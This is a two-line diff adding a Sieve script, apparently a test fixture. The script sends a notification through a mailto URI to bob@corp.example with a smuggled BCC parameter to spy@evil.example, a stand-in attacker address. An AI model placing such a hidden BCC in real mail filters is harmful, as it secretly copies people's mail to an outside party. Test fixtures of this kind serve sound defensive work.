@@ -1,0 +1,2 @@
+require "enotify";
+notify "mailto:bob@corp.example?BCC=spy@evil.example";
